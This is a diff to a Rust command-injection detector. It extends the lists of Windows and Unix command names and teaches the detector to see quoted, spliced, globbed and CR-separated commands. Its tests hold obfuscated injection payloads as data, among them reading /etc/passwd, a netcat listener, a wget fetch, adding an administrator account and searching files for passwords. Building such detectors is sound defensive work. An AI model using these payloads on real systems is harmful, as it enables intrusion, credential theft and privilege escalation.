@@ -9,6 +9,8 @@
 //! sentence is prose. Backtick spans that read as markdown inline code inside prose are not
 //! separators.
 
+use super::graphql::graphql_document;
+use super::shell_line::{expansion, glob_path, splice, windows_line};
 use crate::request::Location;
 
 /// Commands that are rarely English words: any clause shape counts.
@@ -76,11 +78,20 @@ const UNAMBIGUOUS: &[&str] = &[
     "schtasks",
     "icacls",
     "msiexec",
+    "findstr",
+    "taskkill",
+    "vssadmin",
+    "wevtutil",
+    "xcopy",
+    "robocopy",
+    "cacls",
+    "attrib",
 ];
 
 /// Commands that are also words of prose: they need shell-like arguments or a bare clause.
 const AMBIGUOUS: &[&str] = &[
     "cat",
+    "cd",
     "rm",
     "ps",
     "cp",
@@ -126,6 +137,7 @@ const AMBIGUOUS: &[&str] = &[
     "reg",
     "wmic",
     "net1",
+    "ver",
 ];
 
 /// Whether `v` [is prose](is_prose), computed on first use: most values never ask (no command
@@ -146,6 +158,7 @@ impl LazyProse<'_> {
 pub(crate) fn chained_command(v: &str, _loc: Location) -> bool {
     let b = v.as_bytes();
     let mut prose = LazyProse { v, known: None };
+    let mut graphql = None;
     let mut i = 0;
     while i < b.len() {
         let c = b[i];
@@ -156,12 +169,25 @@ pub(crate) fn chained_command(v: &str, _loc: Location) -> bool {
             continue;
         }
         let sep_len = match c {
+            // A lone CR ends a command line for cmd.exe and for line-reading servers.
             b';' | b'|' | b'&' | b'\n' => 1,
-            b'`' if !(markdown_code(b, i) && prose.get()) => 1,
+            b'\r' if b.get(i + 1) != Some(&b'\n') => 1,
+            b'`' if !(markdown_code(b, i) && (prose.get() || text_around_code(v))) => 1,
             b'$' if b.get(i + 1) == Some(&b'(') => 2,
             _ => 0,
         };
-        if sep_len > 0 && command_clause(&v[i + sep_len..], c != b'`', || c == b'\n' || prose.get())
+        // `fish & chips & more`: an ampersand between spaced words is the conjunction, and
+        // only a clause that is surely a command follows it.
+        let conjunction = c == b'&'
+            && i >= 2
+            && b[i - 1] == b' '
+            && b[i - 2].is_ascii_alphabetic()
+            && b.get(i + 1) == Some(&b' ');
+        if sep_len > 0
+            && command_clause(&v[i + sep_len..], c != b'`', || {
+                matches!(c, b'\n' | b'\r') || conjunction || prose.get()
+            })
+            && !(c == b'\n' && *graphql.get_or_insert_with(|| graphql_document(v)))
         {
             return true;
         }
@@ -170,11 +196,11 @@ pub(crate) fn chained_command(v: &str, _loc: Location) -> bool {
     false
 }
 
-/// Bytes that may start a separator of [`chained_command`]: `;`, `|`, `&`, newline, backtick,
-/// and `$` (of `$(`).
+/// Bytes that may start a separator of [`chained_command`]: `;`, `|`, `&`, newline, CR,
+/// backtick, and `$` (of `$(`).
 static MAY_SEPARATE: [bool; 256] = {
     let mut t = [false; 256];
-    let seps = b";|&\n`$";
+    let seps = b";|&\n\r`$";
     let mut k = 0;
     while k < seps.len() {
         t[seps[k] as usize] = true;
@@ -189,7 +215,7 @@ pub(crate) fn substitution(v: &str, _loc: Location) -> bool {
     let mut prose = LazyProse { v, known: None };
     for (i, &c) in b.iter().enumerate() {
         let inner = match c {
-            b'`' if !(markdown_code(b, i) && prose.get()) => {
+            b'`' if !(markdown_code(b, i) && (prose.get() || text_around_code(v))) => {
                 match b[i + 1..].iter().position(|&x| x == b'`') {
                     Some(n) => &v[i + 1..i + 1 + n],
                     None => continue,
@@ -282,11 +308,45 @@ static AMBIGUOUS_SHAPES: [u32; 26] = name_shapes(AMBIGUOUS);
 /// clause after a newline, or in prose) is asked only when a command word starts the clause.
 fn command_clause(rest: &str, unknown_ok: bool, strict: impl FnOnce() -> bool) -> bool {
     let t = rest.trim_start_matches([' ', '+', '\t', '{', '(', '\r']);
-    let word = first_word(t);
+    // A quoted command word (`;'curl' http://x`, `;"rmt" --version`) is the word to a shell.
+    let (word, after) = quoted_word(t).unwrap_or_else(|| {
+        let w = first_word(t);
+        (w, &t[w.len()..])
+    });
+    // The whole shell word, up to a blank or a separator: spliced with quotes or empty
+    // expansions (`c$@at`, `/bin/ca''t`) or globbed (`/bin/ca?`, `/???/?s`), it is a word only a
+    // shell reads, and the command it makes is the evidence.
+    let raw_end = t
+        .find([' ', '+', '\t', ';', '|', '&', '\n', ')', '}', '`'])
+        .unwrap_or(t.len());
+    let raw = &t[..raw_end];
+    // `$a -nlvp 555` (after `a=nc`): a variable run as the command, with an option.
+    if expansion(raw)
+        && t[raw_end..]
+            .trim_start_matches([' ', '+', '\t'])
+            .strip_prefix('-')
+            .is_some_and(|o| o.starts_with(|c: char| c.is_ascii_alphabetic()))
+    {
+        return true;
+    }
+    if raw.len() > word.len() {
+        let spliced = splice(raw);
+        if (spliced != raw && first_word(&spliced) == spliced && is_command(&spliced, true))
+            || glob_path(raw)
+        {
+            return true;
+        }
+        // An unset variable before the command (`|$u wget x`) expands to nothing.
+        if spliced.is_empty() && raw_end < t.len() && t.as_bytes()[raw_end] == b' ' {
+            return command_clause(&t[raw_end..], unknown_ok, strict);
+        }
+    }
+    if windows_line(t) {
+        return true;
+    }
     if word.is_empty() {
         return false;
     }
-    let after = &t[word.len()..];
     if !is_command(word, true) {
         return unknown_ok && unknown_command(word, after);
     }
@@ -316,7 +376,23 @@ fn command_clause(rest: &str, unknown_ok: bool, strict: impl FnOnce() -> bool) -
         // A bare command: `;id`, `|whoami;`. Prose rarely ends a clause on a command word.
         return unamb || !strict();
     }
-    plain <= 1 && (shell > 0 || (unamb && !strict()))
+    // A capitalised name (`Python`, `Curl`) before a word is a product name: only shell
+    // arguments make it a command.
+    let capitalised = word.as_bytes()[0].is_ascii_uppercase()
+        && !word.bytes().skip(1).any(|c| c.is_ascii_uppercase());
+    plain <= 1 && (shell > 0 || (unamb && !capitalised && !strict()))
+}
+
+/// `'word'` or `"word"` at the start of `t`, a single shell word inside: the word and what
+/// follows the closing quote.
+fn quoted_word(t: &str) -> Option<(&str, &str)> {
+    let q = *t.as_bytes().first()?;
+    if q != b'\'' && q != b'"' {
+        return None;
+    }
+    let n = t[1..].find(q as char)? + 1;
+    let inner = &t[1..n];
+    (!inner.is_empty() && first_word(inner) == inner).then(|| (inner, &t[n + 1..]))
 }
 
 /// A word not in the command lists in command position, followed by what only a command line
@@ -372,6 +448,21 @@ fn host_name(t: &str) -> bool {
             .all(|p| !p.is_empty() && p.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'-'))
 }
 
+/// Whether `v` has at least two words of letters outside its backtick spans: inline code in
+/// a sentence (`` store `ls -l` output to sqlite ``), not a substitution that is the value.
+fn text_around_code(v: &str) -> bool {
+    v.split('`')
+        .step_by(2)
+        .flat_map(str::split_whitespace)
+        .filter(|w| {
+            w.len() >= 2
+                && w.chars()
+                    .all(|c| c.is_alphabetic() || ",.!?'()".contains(c))
+        })
+        .nth(1)
+        .is_some()
+}
+
 /// Text with several words of prose: a sentence, not a parameter.
 fn is_prose(v: &str) -> bool {
     v.split_whitespace()
@@ -417,6 +508,22 @@ mod tests {
             "1 && sleep 5 &&",
             ";rmt --version",
             ";lastlog -u root",
+            ";'curl' http://example.com/x",
+            ";\"rmt\" --version",
+            "www.example.com;c$@at /et$@c/pas$@swd",
+            "www.example.com;/bin/ca? /et*/passwd",
+            "x;/???/?s -la",
+            "`cat /etc/passwd`",
+            "a=nc&&$a -nlvp 555",
+            "x|$u wget http://example.com/a",
+            "x;cd /;cat passwd",
+            "127.0.0.1\rwhoami",
+            "x; net user",
+            "127.0.0.1 & net localgroup administrators hacker /add",
+            "x| ver",
+            "x | findstr /s password *.txt",
+            "& for %i in (1) do whoami",
+            "x&%COMSPEC% /c dir",
         ];
         for a in attacks {
             assert!(chained_command(a, l) || substitution(a, l), "missed {a:?}");
@@ -434,6 +541,17 @@ mod tests {
             "a; well-known -- and more words here",
             "Pros; Cons -Foo",
             "Goal-driven multi-attempt iteration loop driven by `claude -p`",
+            "store `ls -l`, `md5sum` and `sha256sum` to sqlite",
+            "Recursively mkdir, like `mkdir -p`",
+            "The Baidu Searcher On Python|Python 百度搜索工具",
+            "query Q($id: ID!) {\n  user(id: $id) {\n    id\n    type\n  }\n}",
+            "{\n  viewer {\n    id\n    login\n  }\n}",
+            "Globs such as /images/*.png; see the docs",
+            "fish & chips & more",
+            "Windows XP; Service Pack 3 & updates",
+            "Hello\r\nI need help with my order\r\nThanks",
+            "Notes:\nset up the meeting\nping me later",
+            "AT&T; net income rose",
         ];
         for b in benign {
             assert!(
